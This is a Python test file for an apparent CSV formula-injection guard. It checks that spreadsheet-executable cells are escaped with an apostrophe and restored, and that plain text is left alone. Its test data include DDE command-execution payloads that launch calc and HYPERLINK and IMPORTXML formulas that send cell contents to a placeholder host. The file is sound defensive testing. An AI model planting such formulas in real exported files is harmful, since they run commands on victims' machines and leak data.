"""Cells that a spreadsheet would run: guarded, and as they were again."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from archiver.csv_guard import GUARD, needs_guard, with_guard, without_guard

RUN = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "=IMPORTXML(CONCAT(\"http://example.invalid/?v=\",A1),\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"a\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@example",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1",
    "\x1bx",
    "\x7f=1",
    " =1+1",
    "   +1",
    "\u00a0=1",
    "\u2003\u3000=1",
    "\ufeff=1",
    "\u200b=1",
    "\u202e=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    " ＝1",
    "﹦1",
    "﹢1",
    "﹣1",
    "﹫a",
    "⁺1",
    "'=1+1",
    "''=1+1",
)  # fmt: skip
LEFT = (
    "",
    "road closed",
    "a=b",
    "1+1",
    "it's",
    "'quoted'",
    "'",
    "3 - 2",
    "a\n=b",
    "£5",
    "…",
    " ",
    "🙂",
    "#tag",
    "%",
    "|",
    "日本",
)


@pytest.mark.parametrize("text", RUN)
def test_what_would_be_run_begins_with_an_apostrophe_and_is_given_back(text: str) -> None:
    cell = with_guard(text)
    assert cell == GUARD + text
    assert without_guard(cell) == text


@pytest.mark.parametrize("text", LEFT)
def test_what_is_text_stays_as_it_is(text: str) -> None:
    assert with_guard(text) == text
    assert without_guard(text) == text


@given(st.text(alphabet=st.one_of(st.sampled_from("'=+-@ \t\r\n＝\ufeff\"a,"), st.characters())))
def test_every_text_is_given_back(text: str) -> None:
    assert without_guard(with_guard(text)) == text


@given(st.text(alphabet=st.sampled_from("'=+-@ \t\r\n＝\ufeff\"a,;")))
def test_no_cell_that_was_written_begins_a_formula_when_read_as_a_spreadsheet_does(text: str) -> None:
    line = io.StringIO(newline="")
    csv.writer(line, lineterminator="\r\n").writerow([with_guard(text), "end"])
    read = next(csv.reader(io.StringIO(line.getvalue(), newline="")))
    assert read == [with_guard(text), "end"]
    assert not read[0].strip(" \t\r\n\ufeff").startswith(("=", "+", "-", "@", "＝"))


def test_an_apostrophe_that_guards_nothing_is_the_texts_own() -> None:
    assert without_guard("'tis") == "'tis"
    assert not needs_guard("'tis")
